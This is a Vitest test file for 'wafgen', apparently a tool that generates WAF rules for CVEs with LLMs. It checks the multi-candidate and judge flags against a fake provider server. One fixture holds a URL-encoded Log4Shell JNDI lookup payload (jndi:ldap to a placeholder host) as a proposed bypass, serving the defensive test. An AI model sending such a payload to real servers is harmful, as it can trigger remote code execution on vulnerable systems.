// The issue 15 flags from the command line: `wafgen generate --candidates N --judge provider:model`
// against the local fake provider server, the candidates and verdict kept with the rule and shown by
// `wafgen info`; bad values for --candidates, --judge and --llm-batch are bad input.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { runCli } from '../support/cli.js';
import { startFakeLlm, type FakeLlm } from '../support/fake-llm/server.js';
import { GOOD, NO_DECODE } from '../generation/llm/fixtures.js';

const VARS = {
  OPENAI_API_KEY: 'sk-test-not-a-real-key',
  ANTHROPIC_API_KEY: 'sk-ant-test-not-a-real-key',
  WAFGEN_LLM_PROVIDERS: 'openai,anthropic',
  WAFGEN_LLM_RETRIES: '0',
  WAFGEN_LLM_TIMEOUT_MS: '5000',
};
let fake: FakeLlm;
const saved = { ...process.env };
beforeAll(async () => {
  fake = await startFakeLlm();
  Object.assign(process.env, VARS, {
    WAFGEN_DATA_DIR: mkdtempSync(join(tmpdir(), 'wafgen-cj-')),
    OPENAI_BASE_URL: fake.baseURL('openai'),
    ANTHROPIC_BASE_URL: fake.baseURL('anthropic'),
  });
});
afterAll(async () => {
  for (const k of [...Object.keys(VARS), 'WAFGEN_DATA_DIR', 'OPENAI_BASE_URL', 'ANTHROPIC_BASE_URL']) {
    if (saved[k] === undefined) delete process.env[k];
    else process.env[k] = saved[k];
  }
  await fake.close();
});

const answer = (statement: unknown) => ({ json: { rationale: 'match the lookup, decoded', statement } });

describe('wafgen generate --candidates --judge', () => {
  it('two candidates from two providers, a judge on its own model; stored with the rule and shown by info', async () => {
    fake.script('openai', answer(NO_DECODE));
    fake.script('anthropic', answer(GOOD), {
      json: {
        bypasses: [{ method: 'GET', uri: '/?q=%24%7Bjndi:ldap://x/a%7D', why: 'encoded' }],
        legitimate: [],
      },
    });
    const r = await runCli([
      'generate',
      'CVE-2021-44228',
      '--engine',
      'llm',
      '--max-attempts',
      '1',
      '--candidates',
      '2',
      '--judge',
      'anthropic:claude-haiku-4-5',
      '--json',
    ]);
    expect(r.code, r.stderr).toBe(0);
    const { report } = JSON.parse(r.stdout);
    expect(report.candidates).toHaveLength(2);
    expect(report.candidates.find((c: { chosen: boolean }) => c.chosen)).toMatchObject({
      provider: 'anthropic',
    });
    expect(report.judge).toMatchObject({
      judge: 'anthropic:claude-haiku-4-5',
      outcome: 'upheld',
      bypassesProposed: 1,
    });
    expect(fake.requestsFor('anthropic').map((q) => q.model)).toContain('claude-haiku-4-5');

    const info = await runCli(['info', 'CVE-2021-44228']);
    expect(info.code, info.stderr).toBe(0);
    expect(info.stdout).toMatch(/\* candidate \(attempt 1\) anthropic\/claude-sonnet-4-5 t=0\.7: proven/);
    expect(info.stdout).toMatch(/candidate \(attempt 1\) openai\/gpt-4\.1: failed/);
    expect(info.stdout).toContain('judge anthropic:claude-haiku-4-5: upheld; proposed 1 bypass(es)');
  }, 60_000);

  it('bad values are bad input (exit 2)', async () => {
    for (const [args, message] of [
      [
        ['generate', 'CVE-2021-44228', '--candidates', '9'],
        '--candidates must be a whole number from 1 to 8',
      ],
      [
        ['generate', 'CVE-2021-44228', '--engine', 'builtin', '--judge', 'openai'],
        'a judge needs the llm engine',
      ],
      [
        ['generate', 'CVE-2021-44228', '--engine', 'llm', '--judge', 'google'],
        'is not in the configured chain',
      ],
      [
        ['batch', '--from', 'nowhere.txt', '--llm-batch', '0'],
        '--llm-batch must be a whole number from 1 to 8',
      ],
    ] as const) {
      // generate refuses before it writes anything; --no-save all the same.
      const r = await runCli(args[0] === 'generate' ? [...args, '--no-save'] : [...args]);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toContain(message);
    }
  }, 60_000);
});
